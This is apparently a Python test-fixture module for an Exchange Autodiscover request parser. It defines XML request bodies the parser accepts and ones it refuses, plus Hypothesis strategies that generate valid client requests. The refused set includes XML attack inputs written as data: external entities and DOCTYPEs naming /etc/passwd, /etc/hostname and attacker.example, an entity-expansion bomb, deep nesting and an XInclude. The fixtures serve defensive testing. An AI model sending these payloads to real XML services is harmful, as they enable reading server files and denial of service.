"""Autodiscover requests: those that are read, those that are refused, and any that a client may send."""

from __future__ import annotations

import codecs

from hypothesis import strategies as st

SPACE = "http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"

OUTLOOK = "http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a"

MOBILESYNC = "http://schemas.microsoft.com/exchange/autodiscover/mobilesync/responseschema/2006"

DECLARATION = '<?xml version="1.0" encoding="utf-8"?>\n'


def request_text(
    address: str = "taro@example.jp", schema: str = OUTLOOK, space: str | None = SPACE, declaration: str = DECLARATION
) -> str:
    """A request as Thunderbird and Outlook send it."""
    namespace = f' xmlns="{space}"' if space else ""
    return (
        f"{declaration}<Autodiscover{namespace}>\n  <Request>\n"
        f"    <EMailAddress>{address}</EMailAddress>\n"
        f"    <AcceptableResponseSchema>{schema}</AcceptableResponseSchema>\n"
        "  </Request>\n</Autodiscover>\n"
    )


TEXT = request_text()

UTF16 = request_text(declaration='<?xml version="1.0" encoding="utf-16"?>')

SHIFT_JIS = request_text("太郎@example.jp", declaration='<?xml version="1.0" encoding="Shift_JIS"?>')

READABLE: dict[str, bytes] = {
    "Thunderbird": TEXT.encode(),
    "without declaration": request_text(declaration="").encode(),
    "on one line": TEXT.replace("\n", "").encode(),
    "CR LF": TEXT.replace("\n", "\r\n").encode(),
    "namespace of https, as in Microsoft's pages": request_text(space=SPACE.replace("http:", "https:")).encode(),
    "schema of https, as in Microsoft's pages": request_text(schema=OUTLOOK.replace("http:", "https:")).encode(),
    "schema without the letter": request_text(schema=OUTLOOK[:-1]).encode(),
    "schema in upper case": request_text(schema=OUTLOOK.upper()).encode(),
    "no schema": TEXT.replace(f"<AcceptableResponseSchema>{OUTLOOK}</AcceptableResponseSchema>", "").encode(),
    "empty schema": request_text(schema="").encode(),
    "wrong namespace": request_text(space="urn:x").encode(),
    "namespace of the answer": request_text(space=OUTLOOK).encode(),
    "no namespace": request_text(space=None).encode(),
    "prefixes": TEXT.replace("xmlns=", "xmlns:a=")
    .replace("</", "</a:")
    .replace("<A", "<a:A")
    .replace("<R", "<a:R")
    .replace("<E", "<a:E")
    .encode(),
    "100 deep": TEXT.replace("</Request>", f"</Request>{'<a>' * 100}{'</a>' * 100}").encode(),
    "attributes": TEXT.replace("<Request>", '<Request xmlns:xsi="urn:x" xsi:nil="0" a="b">').encode(),
    "LegacyDN beside the address": TEXT.replace("<EMail", "<LegacyDN>/o=x/cn=y</LegacyDN><EMail").encode(),
    "white space around the address": request_text("\n  taro@example.jp\t").encode(),
    "white space before the declaration": b"\r\n\t  " + TEXT.encode(),
    "comments": TEXT.replace("taro@", "ta<!-- @ -->ro@").replace("<Request>", "<!-- a --><Request>").encode(),
    "processing instructions": TEXT.replace("taro@", "ta<?a b?>ro@").replace("<Request>", "<?a?><Request>").encode(),
    "CDATA": request_text("<![CDATA[taro]]>@example.jp").encode(),
    "character references": request_text("&#116;aro&#x40;example.jp").encode(),
    "first address of two": TEXT.replace("  </Request>", "<EMailAddress>b@b.example</EMailAddress></Request>").encode(),
    "BOM": codecs.BOM_UTF8 + TEXT.encode(),
    "BOM and white space": codecs.BOM_UTF8 + b"\r\n" + TEXT.encode(),
    "UTF-16": UTF16.encode("utf-16"),
    "UTF-16, big-endian": codecs.BOM_UTF16_BE + UTF16.encode("utf-16-be"),
    "UTF-16 without BOM": UTF16.encode("utf-16-le"),
    "UTF-16 without BOM, big-endian": UTF16.encode("utf-16-be"),
    "UTF-16 with white space": codecs.BOM_UTF16_LE + f"\r\n {UTF16}".encode("utf-16-le"),
    "UTF-16 without declaration": request_text(declaration="").encode("utf-16"),
    "UTF-16 that says UTF-8": TEXT.encode("utf-16"),
    "UTF-8 that says UTF-16": UTF16.encode(),
    "UTF-8 that says UTF-16LE": UTF16.replace("utf-16", "UTF-16LE").encode(),
    "UTF-8 with BOM that says UTF-16": codecs.BOM_UTF8 + UTF16.replace('"', "'", 4).encode(),
    "ISO 8859-1": request_text(declaration='<?xml version="1.0" encoding="iso-8859-1"?>').encode("latin-1"),
}


def doctype(text: str, subset: str = "") -> bytes:
    """A request with a document type."""
    return text.replace("<Autodiscover", f"<!DOCTYPE Autodiscover {subset}><Autodiscover", 1).encode()


def nested(depth: int) -> bytes:
    """A request with an address, and with elements within elements beside it."""
    return TEXT.replace("</Request>", f"</Request>{'<a>' * depth}{'</a>' * depth}").encode()


ENTITY = "&e{};"

BOMB = "".join(f'<!ENTITY e{n + 1} "{10 * ENTITY.format(n)}">' for n in range(9))

UNREADABLE: dict[str, bytes] = {
    "empty": b"",
    "white space": b" \r\n",
    "BOM": codecs.BOM_UTF8,
    "UTF-16 BOM": codecs.BOM_UTF16_LE,
    "half a UTF-16 character": codecs.BOM_UTF16_LE + b"<",
    "form": b"EMailAddress=taro%40example.jp",
    "JSON": b'{"EMailAddress": "taro@example.jp"}',
    "cut off": TEXT.encode()[:-20],
    "two roots": TEXT.encode() + TEXT.replace(DECLARATION, "").encode(),
    "nothing but a comment": b"<!-- Autodiscover -->",
    "another root": b"<Envelope><EMailAddress>taro@example.jp</EMailAddress></Envelope>",
    "root in lower case": TEXT.replace("Autodiscover", "autodiscover").encode(),
    "no address": TEXT.replace("EMailAddress", "Other").encode(),
    "empty address": request_text("").encode(),
    "only a LegacyDN": TEXT.replace("EMailAddress", "LegacyDN").replace("taro@example.jp", "/o=x/cn=taro").encode(),
    "no domain": request_text("taro").encode(),
    "bad domain": request_text("taro@exa mple.jp").encode(),
    "65 octets before the @": request_text(f"{'a' * 65}@example.jp").encode(),
    "unescaped markup": request_text("a&b@example.jp").encode(),
    "element in the address": request_text("taro<b/>@example.jp").encode(),
    "not UTF-8": TEXT.replace("taro", "t\xe4ro").encode("latin-1"),
    "control character": TEXT.replace("taro", "ta\x01ro").encode(),
    "control character, referenced": request_text("ta&#1;ro@example.jp").encode(),
    "line feed in the address, referenced": request_text("ta&#10;ro@example.jp").encode(),
    "unknown encoding": TEXT.replace("utf-8", "klingon").encode(),
    "undefined entity": request_text("taro&at;example.jp").encode(),
    "DOCTYPE": doctype(TEXT),
    "DOCTYPE that names a file": doctype(TEXT, 'SYSTEM "file:///etc/passwd"'),
    "DOCTYPE that names a host": doctype(TEXT, 'PUBLIC "-//x//y" "http://attacker.example/x.dtd"'),
    "DOCTYPE with an empty subset": doctype(TEXT, "[]"),
    "internal entity": doctype(request_text("&who;@example.jp"), '[<!ENTITY who "taro">]'),
    "external entity": doctype(request_text("&f;@example.jp"), '[<!ENTITY f SYSTEM "file:///etc/hostname">]'),
    "external parameter entity": doctype(TEXT, '[<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]'),
    "entity bomb": doctype(request_text("&e9;@example.jp"), f'[<!ENTITY e0 "aaaaaaaaaa">{BOMB}]'),
    "300 deep": nested(300),
    "3000 deep": nested(3000),
    "3000 deep, never closed": ("<Autodiscover>" + "<a>" * 3000).encode(),
    "XInclude": request_text('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/etc/hostname"/>').encode(),
}

BASE = "http://schemas.microsoft.com/exchange/autodiscover/"

LABEL = st.from_regex(r"[a-z0-9]([a-z0-9-]{0,12}[a-z0-9])?", fullmatch=True)

NAME = st.lists(LABEL, min_size=1, max_size=4).map(".".join)

LOCAL = st.text("abcXYZ019.!#$%'*+/=?^_{|}~-", min_size=1, max_size=64)

_WHITE_SPACE = st.text(" \t\r\n", max_size=6)

_DECLARATIONS = st.sampled_from(
    [
        "",
        '<?xml version="1.0"?>',
        '<?xml version="1.0" ?>',
        '<?xml version="1.0" encoding="utf-8"?>',
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<?xml version="1.0" encoding="utf-16"?>',
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
    ]
)

REQUEST = st.sampled_from(["outlook/requestschema/2006", "mobilesync/requestschema/2006"])

WANTED = st.sampled_from(
    ["outlook/responseschema/2006a", "outlook/responseschema/2006", "mobilesync/responseschema/2006"]
)


@st.composite
def bodies(draw: st.DrawFn) -> bytes:
    """Requests as clients send them: the two elements in either order, or the address alone, on one line or on many."""
    base = draw(st.sampled_from([BASE, BASE.replace("http:", "https:")]))
    elements = [f"<EMailAddress>{draw(_WHITE_SPACE)}{draw(LOCAL)}@{draw(NAME)}{draw(_WHITE_SPACE)}</EMailAddress>"]
    wanted = f"<AcceptableResponseSchema>{base}{draw(WANTED)}</AcceptableResponseSchema>"
    elements = draw(st.sampled_from([elements, [*elements, wanted], [wanted, *elements]]))
    pieces = [
        draw(_DECLARATIONS),
        f'<Autodiscover xmlns="{base}{draw(REQUEST)}">',
        "<Request>",
        *elements,
        "</Request>",
        "</Autodiscover>",
    ]
    bom = draw(st.sampled_from([b"", codecs.BOM_UTF8]))
    return bom + "".join(f"{draw(_WHITE_SPACE)}{piece}" for piece in pieces).encode() + draw(_WHITE_SPACE).encode()
